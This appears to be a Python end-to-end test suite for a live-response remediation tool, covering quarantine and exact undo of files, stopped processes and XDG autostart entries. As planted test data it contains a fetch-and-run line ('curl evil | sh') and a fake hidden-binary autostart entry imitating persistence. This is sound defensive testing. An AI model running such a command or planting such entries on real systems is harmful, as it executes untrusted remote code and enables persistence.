"""remediate and undo of files, processes and autostart entries through the real stack (SPEC §5).

console -> server (prerequisite, entity row, requester) -> agent (vault in its
state directory). Files and processes are planted on this machine; anything
planted in a real system path is removed in a finally block.
"""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import re
import shutil
import signal
import stat
import subprocess
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from liveresponse.testing.cluster import Cluster
from tests.e2e.library_helpers import console_word, json_documents

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the agent remediates as root")
MTIME_NS = 1_650_000_000_250_000_000  # 2022-04-15T05:20:00.250000Z
NOBODY = pwd.getpwnam("nobody")


def documents(result: subprocess.CompletedProcess[str]) -> list[Any]:
    return json_documents(result.stdout)


def console_ok(cluster: Cluster, *lines: str) -> list[Any]:
    result = cluster.console(*lines)
    assert result.returncode == 0, (lines, result.stdout, result.stderr)
    return documents(result)


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_file_remediated_listed_and_restored_exactly(cluster: Cluster, tmp_path: Path) -> None:
    folder = tmp_path / "sus folder"
    folder.mkdir()
    target = folder / 'drop "per".bin'
    content = b"\x7fELF not really\n" * 100
    target.write_bytes(content)
    os.chown(target, NOBODY.pw_uid, NOBODY.pw_gid)
    os.chmod(target, 0o750)
    os.utime(target, ns=(MTIME_NS, MTIME_NS))
    inode = target.stat().st_ino
    word = console_word(str(target))

    info, record, rows = console_ok(
        cluster, f"fileinfo {word} -output json", f"remediate file {word} -output json", "remediate list -output json"
    )

    assert info["inode"] == inode
    assert not target.exists()
    sha256 = hashlib.sha256(content).hexdigest()
    rid = record["id"]
    assert re.fullmatch(r"rem_[0-9a-f]{12}", rid)
    shown = ("type", "entity", "state", "actions", "left", "path", "sha256", "remediated_by", "restored_by")
    assert {k: record[k] for k in shown} == {
        "type": "file",
        "entity": str(target),
        "state": "remediated",
        "actions": [f"quarantined {target} ({len(content)} bytes, sha256 {sha256})"],
        "left": [],
        "path": str(target),
        "sha256": sha256,
        "remediated_by": "alice",
        "restored_by": None,
    }
    assert record["session_id"] and record["command_id"] and record["session_id"] != record["command_id"]
    assert isinstance(rows, list)
    (listed,) = [r for r in rows if r["id"] == rid]
    assert listed == record

    blobs = cluster.agent_state / "quarantine" / "blobs"
    assert stat.S_IMODE((cluster.agent_state / "quarantine").stat().st_mode) == 0o700
    assert all(content[:64] not in b.read_bytes() for b in blobs.iterdir())

    (restored,) = console_ok(cluster, f"undo file {word} -output json")

    assert restored["id"] == rid and restored["state"] == "restored" and restored["restored_by"] == "alice"
    assert restored["actions"][-1] == (
        f"restored {target} (sha256 {sha256}) with mode 0750, owner nobody:nogroup, mtime 2022-04-15T05:20:00.250000Z"
    )
    after = target.stat()
    assert sha256_of(target) == sha256
    assert (stat.S_IMODE(after.st_mode), after.st_uid, after.st_gid) == (0o750, NOBODY.pw_uid, NOBODY.pw_gid)
    assert after.st_mtime_ns == MTIME_NS

    again = cluster.console(f"undo file {word}")
    assert again.returncode == 1
    assert f"nothing to do: {rid} was already restored at {restored['restored_at']} by alice" in again.stderr


def test_undo_refuses_to_overwrite_a_new_file(cluster: Cluster, tmp_path: Path) -> None:
    target = tmp_path / "payload.sh"
    target.write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    (record,) = console_ok(cluster, f"remediate file {target} -auto -output json")
    assert not target.exists()
    target.write_bytes(b"an innocent new file\n")
    os.utime(target, ns=(MTIME_NS, MTIME_NS))

    refused = cluster.console(f"undo file {target}")

    assert refused.returncode == 1
    assert (
        f"{target} exists (file, 21 bytes, modified 2022-04-15T05:20:00.250000Z): undo never overwrites,"
        " so nothing was changed; move it away first"
    ) in refused.stderr
    assert target.read_bytes() == b"an innocent new file\n"
    (rows,) = console_ok(cluster, "remediate list -output json")
    assert [r["state"] for r in rows if r["id"] == record["id"]] == ["remediated"]

    target.unlink()
    (restored,) = console_ok(cluster, f"undo file {record['id']} -output json")
    assert restored["state"] == "restored" and target.read_bytes() == b"#!/bin/sh\ncurl evil | sh\n"


def wait_asleep(pid: int, path: str | None = None) -> None:
    deadline = time.monotonic() + 10
    while True:
        with open(f"/proc/{pid}/stat", "rb") as proc_stat:
            state = proc_stat.read().rsplit(b")", 1)[1].split()[0]
        exe = os.readlink(f"/proc/{pid}/exe")
        if state == b"S" and (path is None or exe == path):
            return
        assert time.monotonic() < deadline, (state, exe)
        time.sleep(0.01)


def gone(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return True
    return False


def test_process_stopped_and_its_image_quarantined_then_restored(cluster: Cluster, tmp_path: Path) -> None:
    image = tmp_path / "img dir" / "updater"
    image.parent.mkdir()
    shutil.copy2("/bin/sleep", image)
    sha256 = sha256_of(image)
    argv = [str(image), "600", *[f"0.{i:04d}" for i in range(200)]]  # sleep adds its arguments up
    child = subprocess.Popen(argv)
    try:
        wait_asleep(child.pid, str(image))
        row, record, rows = console_ok(
            cluster,
            f"processes {child.pid} -output json",
            f"remediate process {child.pid} -output json",
            "remediate list -output json",
        )
        assert row[0]["cmdline"] == argv
        assert child.wait(10) == -signal.SIGTERM
        assert gone(child.pid)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    assert not image.exists()
    (image_record,) = [r for r in rows if r["type"] == "file" and r["entity"] == str(image)]
    assert record["type"] == "process" and record["entity"] == str(child.pid) and record["state"] == "remediated"
    assert record["actions"][0] == f"sent SIGTERM to pid {child.pid} (updater)"
    assert re.fullmatch(r"exited after SIGTERM in \d+\.\d s", record["actions"][1])
    assert record["actions"][2] == (
        f"quarantined image {image} (sha256 {sha256}) as {image_record['id']}: 'undo file {image}' restores it"
    )
    assert record["left"] == [] and image_record["sha256"] == sha256

    refused = cluster.console(f"undo process {child.pid}")
    assert refused.returncode == 1
    assert (
        f"a stopped process cannot be restarted; undo file {image} restores its image ({image_record['id']})"
    ) in refused.stderr

    (restored,) = console_ok(cluster, f"undo file {console_word(str(image))} -output json")
    assert restored["id"] == image_record["id"] and restored["state"] == "restored"
    assert sha256_of(image) == sha256 and os.access(image, os.X_OK)


def test_a_process_whose_image_was_deleted(cluster: Cluster, tmp_path: Path) -> None:
    image = tmp_path / "vanishing"
    shutil.copy2("/bin/sleep", image)
    child = subprocess.Popen([str(image), "600"])
    try:
        wait_asleep(child.pid, str(image))
        image.unlink()
        _, record = console_ok(
            cluster, f"processes {child.pid} -output json", f"remediate process {child.pid} -output json"
        )
        assert child.wait(10) == -signal.SIGTERM
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    assert record["left"] == [f"image {image} was deleted before the remediation: nothing to quarantine"]
    assert record["actions"][0] == f"sent SIGTERM to pid {child.pid} (vanishing)"


def test_the_server_the_agent_reports_to_is_never_stopped(cluster: Cluster) -> None:
    # Both run on this host: stopping the server would cut the session and lose the remediation's audit.
    assert cluster.server is not None
    server_pid = cluster.server.pid
    refused = cluster.console(f"processes {server_pid}", f"remediate process {server_pid}")
    assert refused.returncode == 1
    assert (
        f"pid {server_pid} is the liveresponse server this agent reports to: stopping it would cut the session;"
        " nothing done"
    ) in refused.stderr
    assert cluster.server.poll() is None
    (rows,) = console_ok(cluster, "remediate list -output json")  # the session still works
    assert all(r["entity"] != str(server_pid) for r in rows)


def test_a_package_file_is_refused_and_left_alone(cluster: Cluster) -> None:
    sleep = Path("/usr/bin/sleep")
    before = sleep.stat()
    owner = subprocess.run(["dpkg", "-S", "/bin/sleep"], capture_output=True, text=True)
    if owner.returncode != 0:
        pytest.skip("dpkg does not list sleep here")
    refused = cluster.console("remediate file /usr/bin/sleep -auto")
    assert refused.returncode == 1
    assert "left /usr/bin/sleep in place: owned by package coreutils (dpkg); -force quarantines it" in refused.stderr
    after = sleep.stat()
    assert (after.st_ino, after.st_size, after.st_mtime_ns, after.st_mode) == (
        before.st_ino,
        before.st_size,
        before.st_mtime_ns,
        before.st_mode,
    )


def test_a_system_autostart_entry_is_quarantined_and_restored(cluster: Cluster) -> None:
    entry = Path("/etc/xdg/autostart") / f"lr-test-{uuid.uuid4().hex[:10]}.desktop"
    content = b"[Desktop Entry]\nType=Application\nName=Sneaky Updater\nExec=/tmp/.hidden/upd --quiet\n"
    made_dir = not entry.parent.exists()
    try:
        entry.parent.mkdir(parents=True, exist_ok=True)
        entry.write_bytes(content)
        os.chmod(entry, 0o644)
        os.utime(entry, ns=(MTIME_NS, MTIME_NS))
        listing, record = console_ok(
            cluster, "startupfolders -output json", f"remediate startupfolder {entry} -output json"
        )
        (row,) = [r for r in listing if r["path"] == str(entry)]
        assert (row["name"], row["exec"], row["user"]) == ("Sneaky Updater", "/tmp/.hidden/upd --quiet", "(all users)")
        assert not entry.exists()
        assert record["type"] == "startupfolder" and record["entity"] == str(entry)
        digest = hashlib.sha256(content).hexdigest()
        assert record["actions"] == [
            "autostart entry 'Sneaky Updater' (Exec '/tmp/.hidden/upd --quiet')",
            f"quarantined {entry} ({len(content)} bytes, sha256 {digest})",
        ]
        (restored,) = console_ok(cluster, f"undo startupfolder {entry} -output json")
        assert restored["state"] == "restored"
        assert entry.read_bytes() == content and entry.stat().st_mtime_ns == MTIME_NS
        assert stat.S_IMODE(entry.stat().st_mode) == 0o644
    finally:
        entry.unlink(missing_ok=True)
        if made_dir:
            shutil.rmtree(entry.parent, ignore_errors=True)


def test_remediate_list_is_json_rows(cluster: Cluster) -> None:
    (rows,) = console_ok(cluster, "remediate list -output json")
    assert isinstance(rows, list)
    assert all(set(r) >= {"id", "type", "entity", "state", "actions", "left", "remediated_at"} for r in rows)
    assert all("items" not in r for r in rows)
    assert [r["remediated_at"] for r in rows] == sorted(r["remediated_at"] for r in rows)
    json.dumps(rows)
